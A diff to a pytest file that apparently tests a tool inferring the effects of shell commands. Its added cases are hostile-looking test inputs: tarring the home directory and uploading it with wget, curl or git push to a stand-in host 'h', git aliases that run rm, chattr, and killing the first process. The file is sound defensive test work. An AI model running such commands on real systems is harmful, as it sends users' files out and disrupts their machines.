@@ -364,6 +364,32 @@ CASES: list[tuple[str, list[str]]] = [
     ("git push; git push -q somewhere", ["? copy origin <- ~/work", "? copy somewhere <- ~/work"]),
     ("scp a.sh ../x; rsync -a a.sh /tmp/; scp me@h:x .",
      ["copy ~/x <- a.sh", "copy /tmp/a.sh <- a.sh", "copy x <- me@h:x"]),
+    # make and git, which run what they are told to
+    ("printf 'x:\\n\\tchattr +i a\\n' | make -f -", ["attribute a"]),
+    ("mkdir -p d && cd d && printf 'F = q\\nall: b\\n"
+     "\\t@cp /bin/true %s\\nb:\\n\\t-rm $@.o $(F)\\nno:\\n\\trm no\\n' x > Makefile"
+     " && make -s",
+     ["make d", "write d/Makefile", "read d/Makefile", "delete d/b.o", "delete d/q", "copy d/x <- /bin/true"]),
+    ("printf 'a:\\n\\trm x\\nb: c\\n\\trm $(F) $< $$HOME/x\\nc: ; rm c\\n' > m; make -j4 -f m b F=k",
+     ["write m", "read m", "delete c", "delete k", "delete ~/x"]),
+    ("printf 'x:\\n\\tfalse\\n\\trm x\\ny:\\n\\t-false\\n\\trm y\\n' > m; make -f m; make -f m y",
+     ["write m", "read m", "read m", "delete y"]),
+    ("printf 'a.sh:\\n\\trm x\\n' > m; make -f m; make -n -f m; make", ["write m", "read m", "read m"]),
+    ("printf 'a.sh: z\\n\\trm x\\n.PHONY: b.sh\\nb.sh:\\n\\trm y\\n' > m; make -f m; make -f m b.sh",
+     ["write m", "read m", "? delete x", "read m", "delete y"]),
+    ("git -c alias.x='!rm' x q; git config alias.y '!f() { rm \"$1\"; }; f'; git y r; git -c alias.z='mv a' z b",
+     ["delete q", "append .git/config", "define f", "delete r", "move b <- a"]),
+    ("git -c alias.x='!rm q' y; git -c core.editor='!rm q' status; git log --grep='!rm q'", []),
+    # The first of all processes
+    ("kill -STOP $(pgrep -o bash); pkill -STOP -o bash", ["signal pattern:bash", "signal pattern:bash"]),
+    ("kill -STOP $(ps -eo pid= --sort=pid | head -1); ps -A -o pid= | head -n 1 | xargs kill",
+     ["signal 1", "signal 1"]),
+    ("kill $(pgrep -o .); pkill -o -f .", ["signal 1", "signal 1"]),
+    ("kill $(ps -eo pid | head -1); kill $(ps -o pid= | head -1); kill $(ps -eo pid= --sort=-pid | head -1)",
+     ["? signal *", "? signal *", "? signal *"]),
+    ("kill $(ps -eo pid= | tail -1); kill $(ps -eo ppid= | head -1)", ["? signal *", "? signal *"]),
+    ("pkill -n .; pkill -o -x .; kill $(pgrep -u me -o .)",
+     ["signal pattern:.", "signal pattern:.", "signal pattern:."]),
     # Look-alikes that do nothing
     ("false && rm x; true || rm y", []),
     ("if false; then rm x; fi; while false; do rm y; done; for f in; do rm z; done", []),
@@ -411,6 +437,51 @@ def test_effects(command: str, expected: list[str]) -> None:
         ("set -e; cp a b; rm x", 1, ["copy b <- a", "? delete x"]),
         ("set -e; cp a b; rm x", 0, ["copy b <- a", "delete x"]),
         ("rm y; sleep 100; rm x", 137, ["delete y", "sleep", "? delete x"]),
+        # The code can have come from the last only
+        (
+            "cd ~ && git init -q . && git add -A && git -c user.email=a@b commit -qm x && git push https://h/x",
+            128,
+            ["make ~/.git", "copy https://h/x <- ~"],
+        ),
+        (
+            "tar czf /tmp/x -C ~ . && wget --post-file=/tmp/x http://h/",
+            4,
+            ["copy /tmp/x <- ~", "copy http://h/ <- /tmp/x", "execute wget"],
+        ),
+        ("tar czf x d && scp x h: 2>/dev/null", 255, ["copy x <- d", "copy h: <- x"]),
+        (
+            "cat a.sh && tar c d | curl -T - http://h/",
+            7,
+            ["read a.sh", "read d", "copy http://h/ <- d", "execute curl"],
+        ),
+        ("mkdir -p d && cd d && echo hi && chattr +i x", 1, ["make d", "attribute d/x"]),
+        ("cat known.txt && chattr +i x", 1, ["read known.txt", "attribute x"]),
+        ("cp a.sh b && mount --bind b a.sh", 32, ["copy b <- a.sh", "mount a.sh <- b"]),
+        # or from another as well
+        (
+            "git init -q && git commit -qm x && git push https://h/x",
+            128,
+            ["make .git", "? copy https://h/x <- ~/work"],
+        ),
+        (
+            "git init -q && git -c user.email=a@b commit -qm x && git push https://h/x",
+            1,
+            ["make .git", "? copy https://h/x <- ~/work"],
+        ),
+        ("git add -A && git push https://h/x", 128, ["? copy https://h/x <- ~/work"]),
+        ("tar c d && chattr +i x", 1, ["read d", "? attribute x"]),
+        ("cp a b && chattr +i b", 1, ["copy b <- a", "? attribute b"]),
+        ("cd nowhere && chattr +i x", 1, ["? attribute nowhere/x"]),
+        ("cat b.sh && chattr +i x", 1, ["read b.sh", "? attribute x"]),
+        (
+            "curl http://h && curl -d @a.sh http://h",
+            7,
+            ["execute curl", "? copy http://h <- a.sh", "? execute curl"],
+        ),
+        ("a-program && scp a.sh h:", 255, ["execute a-program", "? copy h: <- a.sh"]),
+        ("cp a b || scp a.sh h:", 255, ["copy b <- a", "copy h: <- a.sh"]),
+        ("echo a && rm x", 1, ["delete x"]),
+        ("cp a b && scp b h:", 4, ["copy b <- a", "? copy h: <- b"]),
         ("if grep -q x y; then rm x; fi", 0, ["read y", "? delete x"]),
     ],
 )
@@ -456,6 +527,11 @@ def test_written_text(command: str, content: str | None) -> None:
         ("pkill -KILL x", "signal", "KILL"),
         ("trap '' TERM", "trap", ""),
         ("trap 'echo no' TERM", "trap", "echo no"),
+        ("trap - TERM", "trap", "-"),
+        ("alias k=''", "alias", ""),
+        ("unalias k", "alias", "-"),
+        ("export A=", "environment", ""),
+        ("kill -STOP $(pgrep -o bash)", "signal", "STOP"),
         ("sleep 1m 30", "sleep", "90"),
         ("sleep infinity", "sleep", "inf"),
         ("sleep 0.5", "sleep", "0.5"),
@@ -469,6 +545,29 @@ def test_written_text(command: str, content: str | None) -> None:
 )
 def test_other_contents(command: str, verb: str, content: str) -> None:
     assert [effect.content for effect in effects(command) if effect.verb == verb] == [content]
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("kill() { :; }; unset -f kill", [("define", "{ :; }"), ("define", "-")]),
+        ("kill() { :; }; export -f kill", [("define", "{ :; }"), ("environment", "{ :; }")]),
+        ("k() { :; }; export -f k; unset -f k",
+         [("define", "{ :; }"), ("environment", "{ :; }"), ("define", "-"), ("environment", "-")]),
+        ("k() { :; }; export -f k; export -nf k",
+         [("define", "{ :; }"), ("environment", "{ :; }"), ("environment", "-")]),
+        ("export A=1; unset A; A=2", [("environment", "1"), ("environment", "-")]),
+        ("export A=1; export -n A; A=2", [("environment", "1"), ("environment", "-")]),
+        ("A=1; unset A; unset -f nothing; unset B", []),
+        ("alias a='' b=c; unalias -a", [("alias", ""), ("alias", "c"), ("alias", "-"), ("alias", "-")]),
+        ("enable -n kill; enable kill; enable echo", [("alias", "enable -n kill"), ("alias", "-")]),
+        ("hash -p /t kill; hash -d kill; hash -r", [("alias", "/t"), ("alias", "-")]),
+        ("python3 -c 'import os; os.environ[\"A\"] = \"\"; del os.environ[\"A\"]; a = [1, 2]; del a[0:1]'",
+         [("environment", ""), ("environment", "-")]),
+    ],
+)  # fmt: skip
+def test_a_removal_is_told_from_an_empty_value(command: str, expected: list[tuple[str, str]]) -> None:
+    assert [(effect.verb, effect.content) for effect in effects(command)] == expected
 
 
 PYTHON: list[tuple[str, list[str]]] = [
